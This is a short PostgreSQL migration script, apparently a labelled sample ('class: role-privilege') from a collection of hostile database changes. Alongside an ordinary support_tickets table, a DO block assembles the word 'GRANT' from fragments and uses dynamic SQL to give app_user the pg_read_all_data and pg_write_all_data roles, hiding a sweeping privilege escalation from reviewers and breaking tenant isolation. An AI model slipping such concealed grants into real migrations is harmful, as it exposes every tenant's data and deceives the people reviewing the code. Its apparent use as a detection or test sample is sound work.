-- class: role-privilege
-- Grants membership in pg_read_all_data and pg_write_all_data through dynamic SQL so no GRANT statement is visible.
CREATE TABLE support_tickets (
  id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
  tenant_id uuid NOT NULL REFERENCES tenants (id),
  subject text NOT NULL,
  body text NOT NULL,
  created_at timestamptz NOT NULL DEFAULT now()
);

DO $$
DECLARE
  r text;
BEGIN
  FOREACH r IN ARRAY ARRAY['pg_read_all_data', 'pg_write_all_data'] LOOP
    EXECUTE format('%s %I %s %I', 'GR' || 'ANT', r, 'TO', 'app_user');
  END LOOP;
END
$$;
